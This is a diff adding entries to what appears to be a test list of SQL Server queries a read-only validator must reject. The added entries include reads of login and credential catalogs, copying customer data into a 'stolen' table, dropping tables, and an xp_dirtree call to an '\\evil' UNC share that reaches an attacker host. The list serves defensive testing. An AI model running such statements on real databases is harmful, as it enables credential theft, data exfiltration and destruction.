@@ -218,3 +218,77 @@ DROP TABLE customers
 SELECT * FROM FREETEXTTABLE(secrets, *, 'x')
 ---
 SELECT * FROM CHANGETABLE(CHANGES customers, 0) AS c
+---
+SELECT * FROM [sys ].[sql_logins ]
+---
+SELECT name FROM [syslogins  ]
+---
+SELECT * INTO dbo.stolen FROM customers
+---
+SELECT 1 DECLARE c CURSOR FOR SELECT 1 OPEN c
+---
+SELECT 1 SAVE TRANSACTION a
+---
+SELECT 1 SETUSER 'dbo'
+---
+SELECT 1 RAISERROR('x', 20, 1) WITH LOG
+---
+SELECT 1 BULK INSERT customers FROM 'x'
+---
+SELECT 1 DISABLE TRIGGER ALL ON DATABASE
+---
+SELECT 1 IF 1 = 1 DROP TABLE customers
+---
+SELECT 1 WHILE 1 = 1 PRINT 'x'
+---
+SELECT 1 END CONVERSATION 'x'
+---
+SELECT 1; xp_dirtree '\\evil\x'
+---
+SELECT name FROM customers EXEC('x') AT other
+---
+SELECT * FROM evil...customers
+---
+SELECT * FROM evil.shop..customers
+---
+SELECT name FROM tempdb.sys.objects
+---
+SELECT * FROM msdb.dbo.backupset
+---
+SELECT * FROM sys.servers
+---
+SELECT * FROM sys.linked_logins
+---
+SELECT * FROM sys.dm_exec_sql_text(0x1)
+---
+SELECT * FROM fn_dblog(NULL, NULL)
+---
+SELECT HAS_PERMS_BY_NAME(NULL, NULL, 'CONTROL SERVER')
+---
+SELECT SESSION_CONTEXT(N'key')
+---
+SELECT DECRYPTBYKEY(name) FROM customers
+---
+SELECT * FROM customers WITH (INDEX(1), XLOCK)
+---
+SELECT * FROM customers WITH (NOLOCK) OPTION (USE HINT ('x'))
+---
+SELECT data.modify('delete (/a)') FROM documents
+---
+SELECT s.value FROM STRING_SPLIT('a', ',') s CROSS APPLY sys.fn_helpcollations() c
+---
+SELECT $PARTITION.ranges(1)
+---
+SELECT {fn DATABASE()}
+---
+SELECT TOP (dbo.wipe()) name FROM customers
+---
+SELECT name FROM customers ORDER BY id OFFSET dbo.wipe() ROWS
+---
+RECEIVE TOP (1) * FROM dbo.queue
+---
+SEND ON CONVERSATION 'x' ('y')
+---
+ENABLE TRIGGER t ON customers
+---
+ADD SIGNATURE TO p BY CERTIFICATE c
